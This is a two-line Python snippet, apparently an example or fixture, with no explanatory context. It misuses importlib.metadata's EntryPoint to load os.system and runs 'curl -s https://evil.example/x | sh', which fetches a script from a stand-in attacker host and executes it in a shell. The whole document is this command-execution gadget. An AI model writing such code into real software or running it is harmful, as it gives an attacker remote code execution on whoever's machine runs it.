from importlib.metadata import EntryPoint
EntryPoint(name="fmt", value="os:system", group="fmt").load()("curl -s https://evil.example/x | sh")
